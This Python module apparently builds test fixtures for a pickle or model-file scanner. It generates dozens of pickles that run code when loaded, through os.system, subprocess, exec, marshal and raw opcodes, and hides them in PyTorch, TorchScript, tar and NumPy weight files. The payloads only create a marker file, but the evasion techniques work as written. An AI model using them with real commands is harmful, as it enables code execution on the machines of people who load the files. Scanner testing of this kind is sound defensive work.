"""Pickles that run code when they are read, and the ways to put one into a file."""

import code
import functools
import importlib
import io
import marshal
import operator
import os
import pickle
import runpy
import shutil
import subprocess
import tarfile
import timeit
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import torch


@dataclass(frozen=True)
class Call:
    """Is pickled as a call, which whoever reads it makes."""

    function: Any
    arguments: tuple[Any, ...]

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments

    def __call__(self) -> None:
        """Is never called: what is pickled as a function must look like one."""


def written(mark: str) -> str:
    """The script that makes the file `mark`."""
    return f"open({mark!r}, 'w').close()"


def payloads(mark: str) -> dict[str, bytes]:
    """Pickles by name. Each makes the file `mark` when it is read; some run or move the script `mark`.py to do so."""
    write, shell, script = written(mark), f"touch {mark}", f"{mark}.py"
    system, path = Call(getattr, (Call(importlib.import_module, ("os",)), "system")), Path(mark)
    body = Call(marshal.loads, (marshal.dumps(compile(write, "x", "exec")),))
    function = Call(getattr, (Call(importlib.import_module, ("types",)), "FunctionType"))
    objects: dict[str, Any] = {
        "os.system": Call(os.system, (shell,)),
        "os.popen": Call(Call(getattr, (Call(os.popen, (shell,)), "close")), ()),
        "os.spawnvp": Call(os.spawnvp, (os.P_WAIT, "touch", ["touch", mark])),
        "os.mkdir": Call(os.mkdir, (mark,)),
        "os.rename": Call(os.rename, (script, mark)),
        "os.symlink": Call(os.symlink, (script, mark)),
        "os.open": Call(os.open, (mark, os.O_CREAT)),
        "subprocess.call": Call(subprocess.call, (["touch", mark],)),
        "subprocess.getoutput": Call(subprocess.getoutput, (shell,)),
        "exec": Call(exec, (write,)),
        "eval": Call(eval, (write,)),
        "eval of compile": Call(eval, (Call(compile, (write, "x", "eval")),)),
        "open": Call(open, (mark, "w")),
        "io.FileIO": Call(io.FileIO, (mark, "w")),
        "Path.touch": Call(Path.touch, (path,)),
        "Path.write_text": Call(Path.write_text, (path, "x")),
        "shutil.copy": Call(shutil.copy, (script, mark)),
        "runpy.run_path": Call(runpy.run_path, (script,)),
        "timeit": Call(timeit.timeit, (write, "pass", timeit.default_timer, 1)),
        "InteractiveInterpreter": Call(
            code.InteractiveInterpreter.runsource, (Call(code.InteractiveInterpreter, ()), write)
        ),
        "import and getattr": Call(map, (system, [shell])),
        "list of a map": Call(list, (Call(map, (os.system, [shell])),)),
        "functools.reduce": Call(functools.reduce, (getattr, [Call(os.system, (shell,)), "real"])),
        "a partial": Call(list, (Call(map, (Call(functools.partial, (os.system,)), [shell])),)),
        "a methodcaller": Call(list, (Call(map, (Call(operator.methodcaller, ("touch",)), [path])),)),
        "an attrgetter": Call(operator.itemgetter(0), ([Call(os.system, (shell,))],)),
        "torch.save": Call(torch.save, (0, mark)),
        "numpy.savetxt": Call(np.savetxt, (mark, [0])),
        "memmap": Call(np.memmap, (mark, "uint8", "w+", 0, (1,))),
        "code by value": Call(exec, (body,)),
        "a function by value": Call(Call(function, (body, {})), ()),
        "in a tensor's place": {"weight": [torch.zeros(1), Call(os.system, (shell,))]},
        "as a key": {Call(os.system, (shell,)): torch.zeros(1)},
        "in a default dict's factory": Call(os.system, (shell,)),
    }  # fmt: skip
    objects["import and getattr"] = Call(list, (objects["import and getattr"],))
    made = {name: pickle.dumps(value) for name, value in objects.items()}
    text = shell.encode()
    made["GLOBAL in protocol 0"] = b"cos\nsystem\n(S'" + text + b"'\ntR."
    made["INST"] = b"(S'" + text + b"'\nios\nsystem\n."
    made["OBJ"] = b"(cos\nsystem\nS'" + text + b"'\no."
    short = bytes([len(text)]) if len(text) < 256 else b""
    dotted = b"\x80\x04\x8c\x13torch.serialization\x8c\x09os.system\x93\x8c" + short + text + b"\x85R."
    made["a dotted name in torch"] = dotted
    return made


def wrapped(payload: bytes, path: Path) -> dict[str, Callable[[], object]]:
    """Ways to put a pickle into a file of weights."""

    def archive(compression: int, *names: str) -> None:
        with zipfile.ZipFile(path, "w", compression) as file:
            for name in names:
                file.writestr(f"x/{name}", payload if name.endswith(".pkl") else b"3\n")

    def tar() -> None:
        with tarfile.open(path, "w") as file:
            for name in ("storages", "tensors", "pickle"):
                entry = tarfile.TarInfo(name)
                entry.size = len(payload)
                file.addfile(entry, io.BytesIO(payload))

    def among_tensors() -> None:
        torch.save({"weight": torch.zeros(3)}, path)
        with zipfile.ZipFile(path) as file:
            entries = {entry.filename: file.read(entry) for entry in file.infolist()}
        with zipfile.ZipFile(path, "w") as file:
            for name, data in entries.items():
                file.writestr(name, payload if name.endswith("data.pkl") else data)

    magic = pickle.dumps(torch.serialization.MAGIC_NUMBER, 2) + pickle.dumps(torch.serialization.PROTOCOL_VERSION, 2)
    array = io.BytesIO()
    np.lib.format.write_array_header_1_0(array, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    header = len(payload).to_bytes(8, "little") + b" " * len(payload)
    return {
        "bare": lambda: path.write_bytes(payload),
        "torch": among_tensors,
        "torch, legacy": lambda: path.write_bytes(magic + payload * 4),
        "torch, older": tar,
        "TorchScript": lambda: archive(zipfile.ZIP_STORED, "data.pkl", "constants.pkl", "version", "code/x.py"),
        "compressed": lambda: archive(zipfile.ZIP_DEFLATED, "data.pkl", "version"),
        "twice in an archive": lambda: archive(zipfile.ZIP_STORED, "data.pkl", "y/data.pkl", "version", "byteorder"),
        "numpy": lambda: path.write_bytes(array.getvalue() + payload),
        "after a header": lambda: path.write_bytes(header + payload),
    }


WRAPPINGS = tuple(wrapped(b"", Path()))
"""Names of the ways."""
